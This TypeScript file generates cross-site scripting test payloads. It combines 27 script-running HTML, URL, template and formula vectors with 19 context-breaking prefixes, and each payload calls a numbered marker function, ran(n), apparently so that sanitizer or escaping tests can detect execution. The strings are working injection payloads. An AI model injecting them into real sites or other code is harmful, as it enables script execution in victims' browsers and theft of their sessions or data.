/** Texts that run a script where a page takes them for more than text: each calls `ran` with its number. */

/** What runs by itself once it is read as markup, as an address, or in a template; `$` is the call. */
const scripts = [
  "<script>$</script>",
  "<img src=x onerror=$>",
  "<svg onload=$>",
  "<svg><animate onbegin=$ attributeName=x dur=1s>",
  "<body onload=$>",
  "<iframe srcdoc='<script>parent.$</script>'>",
  "<iframe src=javascript:parent.$>",
  "<video><source onerror=$>",
  "<audio src=x onerror=$>",
  "<details open ontoggle=$>",
  "<input autofocus onfocus=$>",
  "<select autofocus onfocus=$>",
  "<marquee onstart=$>",
  "<style>@keyframes a{}</style><b style='animation:a 1s' onanimationstart=$>",
  "<object data=javascript:$>",
  "<embed src=javascript:$>",
  "<a href=javascript:$ id=x>x</a>",
  "<form action=javascript:$><input type=submit autofocus>",
  "<meta http-equiv=refresh content='0;url=javascript:$'>",
  "<base href='javascript:$//'>",
  "<math><mtext><table><mglyph><style><img src=x onerror=$>",
  "<template shadowrootmode=open><img src=x onerror=$></template>",
  "javascript:$",
  "data:text/html,<script>opener.$</script>",
  "{{constructor.constructor('$')()}}",
  "${$}",
  '=HYPERLINK("javascript:$")',
];

/** What ends the place in which a text may stand: an attribute, a script, a comment, a style, another's text. */
const endings = [
  "",
  '">',
  "'>",
  "`>",
  "</script>",
  "]]>",
  "-->",
  "</style>",
  "</textarea>",
  "</title>",
  "\\u003c/script\\u003e",
  "';$;//",
  '";$;//',
  "</noscript>",
  "\u2028$//",
  "&lt;/script&gt;",
  "%3C/script%3E",
  "\u202e",
  "</svg>",
];

/** So many texts, each of its own kind, of at most 120 characters. */
export function payloads(count: number): string[] {
  const made: string[] = [];
  for (const ending of endings)
    for (const script of scripts) {
      const call = `ran(${made.length})`;
      const text = `${ending}${script}`.replaceAll("$", call);
      if (text.length <= 120 && made.length < count) made.push(text);
    }
  return made;
}
